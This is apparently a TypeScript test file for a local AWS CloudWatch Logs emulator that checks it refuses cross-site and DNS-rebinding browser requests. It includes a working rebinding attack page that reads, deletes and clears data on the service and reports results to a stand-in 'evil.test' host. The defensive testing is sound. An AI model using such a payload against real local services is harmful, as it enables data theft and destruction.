import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { mkdtemp, rm } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { start } from '@awslogs/local';
import test, { type ExecutionContext } from 'ava';
import { bench, exchange, NOW } from './support.js';

const DELETE = JSON.stringify({ logGroupName: 'g' });
const CONTROL = [
  ['GET', '/_awslogs/events?logGroupName=g'],
  ['GET', '/_awslogs/requests'],
  ['POST', '/_awslogs/faults'],
  ['DELETE', '/_awslogs/faults'],
] as const;

/** What Chromium, Firefox and Safari send along. */
for (const [what, headers] of [
  ['a page of another site', { origin: 'http://evil.test' }],
  ['a page without a site, as in a sandboxed frame', { origin: 'null' }],
  ['a page whose name was led here', { origin: 'http://evil.test:4586', host: 'evil.test:4586' }],
  ['a form, as Firefox sends it', { origin: 'http://evil.test', 'sec-fetch-mode': 'navigate' }],
  [
    'an image or a script',
    { 'sec-fetch-site': 'cross-site', 'sec-fetch-mode': 'no-cors', 'sec-fetch-dest': 'image' },
  ],
  [
    'a page of this machine',
    { 'sec-fetch-site': 'same-site', 'sec-fetch-mode': 'cors', 'sec-fetch-dest': 'empty' },
  ],
  [
    'an address that was typed',
    { 'sec-fetch-site': 'none', 'sec-fetch-mode': 'navigate', 'sec-fetch-user': '?1' },
  ],
] as const) {
  test(`${what} is answered nothing, wherever it asks`, async (t) => {
    const made = await bench(t);
    await made.put();
    const before = made.local.requests.length;
    const { status, body } = await made.raw('DeleteLogGroup', DELETE, headers);
    t.is(status, 403);
    t.regex(JSON.parse(body).message, /answers no browser/);
    for (const [method, path] of CONTROL)
      t.is((await exchange(made.local.port, method, path, headers)).status, 403, path);
    t.is((await exchange(made.local.port, 'OPTIONS', '/', headers)).status, 403);
    t.deepEqual(made.messages(), ['hello']);
    t.is(made.local.requests.length, before);
  });
}

for (const [what, headers] of [
  ['an SDK in a container, by the name of the service', { host: 'cloudwatch:4586' }],
  ["Node's own fetch", { 'sec-fetch-mode': 'cors', 'accept-language': '*', 'user-agent': 'node' }],
] as const) {
  test(`${what} is answered`, async (t) => {
    const made = await bench(t);
    t.is((await made.raw('DeleteLogGroup', DELETE, headers)).status, 200);
  });
}

test("Node's own fetch reads what there is to control", async (t) => {
  const { local } = await bench(t);
  t.is((await fetch(`${local.endpoint}/_awslogs/requests`)).status, 200);
});

/** What a page does that has its name lead here: it reads, writes and deletes, and reports how it went. */
const attack = (reporter: string, port: number) => `<script type="module">
  const report = (what) => fetch('${reporter}', { method: 'POST', mode: 'no-cors', body: JSON.stringify(what) });
  const headers = {
    'content-type': 'application/x-amz-json-1.1',
    'x-amz-target': 'Logs_20140328.DeleteLogGroup',
    'x-amz-date': '20261124T120000Z',
    authorization: 'AWS4-HMAC-SHA256 Credential=local/20261124/us-east-1/logs/aws4_request, SignedHeaders=host, Signature=${'0'.repeat(64)}',
  };
  await report('loaded');
  for (;;) {
    const answer = await fetch('/_awslogs/events?logGroupName=g').catch(() => undefined);
    if (answer) break;
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
  const results = {};
  const read = await fetch('/_awslogs/events?logGroupName=g');
  results.read = read.status + ' ' + (await read.text()).includes('hello');
  results.write = (await fetch('/', { method: 'POST', headers, body: '${DELETE}' })).status;
  results.faults = (await fetch('/_awslogs/faults', { method: 'DELETE' })).status;
  await fetch('http://127.0.0.1:${port}/', { method: 'POST', mode: 'no-cors', body: '${DELETE}' }).catch(() => undefined);
  await report(results);
</script>`;

async function listen(t: ExecutionContext, server: Server): Promise<number> {
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  t.teardown(() => server.close());
  const address = server.address();
  if (address === null || typeof address === 'string') throw new Error('The server has no port.');
  return address.port;
}

/** Chromium with an empty profile, for which evil.test is this machine, and no other name leads anywhere. */
async function browse(
  t: ExecutionContext,
  url: string,
): Promise<{ readonly ended: Promise<string> } | undefined> {
  const profile = await mkdtemp(join(tmpdir(), 'awslogs-chromium-'));
  const rules = 'MAP evil.test 127.0.0.1, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1';
  const args = ['--headless=new', '--no-sandbox', '--disable-gpu', '--no-first-run'];
  args.push('--disable-background-networking', '--disable-component-update', '--disable-sync');
  args.push(`--host-resolver-rules=${rules}`, `--user-data-dir=${profile}`, '--remote-debugging-port=0', url);
  // A group of its own, all of which is ended.
  const child = spawn('chromium', args, { stdio: ['ignore', 'ignore', 'pipe'], detached: true });
  const started = await Promise.race([
    once(child, 'spawn').then(() => true),
    once(child, 'error').then(() => false),
  ]).catch(() => false);
  if (!started) {
    await rm(profile, { recursive: true });
    return undefined;
  }
  let words = '';
  child.stderr.on('data', (chunk: Buffer) => {
    words += chunk;
  });
  const closed = once(child, 'close').then(() => words);
  t.teardown(async () => {
    if (child.pid !== undefined && child.exitCode === null) process.kill(-child.pid, 'SIGKILL');
    await closed;
    await rm(profile, { recursive: true, force: true, maxRetries: 10 });
  });
  return { ended: closed };
}

test('a page in Chromium that has its name lead here neither reads nor writes', async (t) => {
  t.timeout(120_000, 'Chromium did not say what the page saw');
  const reports: unknown[] = [];
  let isReported = (): void => undefined;
  const reporter = createServer(async (request, response) => {
    let text = '';
    for await (const chunk of request.setEncoding('utf8')) text += chunk;
    response.end();
    reports.push(JSON.parse(text));
    isReported();
  });
  const to = `http://evil.test:${await listen(t, reporter)}/`;
  let port = 0;
  const attacker = createServer((_, response) =>
    response.setHeader('content-type', 'text/html').end(attack(to, port)),
  );
  port = await listen(t, attacker);
  const nextReport = (count: number, ended: Promise<string>) =>
    new Promise<void>((resolve, reject) => {
      isReported = () => {
        if (reports.length >= count) resolve();
      };
      isReported();
      void ended.then((words) => reject(new Error(`Chromium ended: ${words}`)));
    });
  const browser = await browse(t, `http://evil.test:${port}/`);
  if (browser === undefined) {
    t.log('There is no chromium here: what it sends is tried above.');
    t.pass();
    return;
  }
  await nextReport(1, browser.ended);
  // The name leads elsewhere: what was the attacker's server is now the service.
  attacker.closeAllConnections();
  await new Promise((resolve) => attacker.close(resolve));
  const local = await start({ port, now: () => NOW, signingClock: () => NOW });
  t.teardown(() => local.close());
  const sdk = await exchangeAs(local.port, 'CreateLogGroup', { logGroupName: 'g' });
  t.is(sdk, 200);
  await nextReport(2, browser.ended);
  t.deepEqual(reports, ['loaded', { read: '403 false', write: 403, faults: 403 }]);
  t.is(await exchangeAs(local.port, 'CreateLogStream', { logGroupName: 'g', logStreamName: 's' }), 200);
});

/** As an SDK would. */
async function exchangeAs(port: number, operation: string, input: object): Promise<number> {
  const headers = {
    'content-type': 'application/x-amz-json-1.1',
    'x-amz-target': `Logs_20140328.${operation}`,
    'x-amz-date': '20261124T120000Z',
    authorization: `AWS4-HMAC-SHA256 Credential=local/20261124/us-east-1/logs/aws4_request, SignedHeaders=host, Signature=${'0'.repeat(64)}`,
  };
  return (await exchange(port, 'POST', '/', headers, JSON.stringify(input))).status;
}
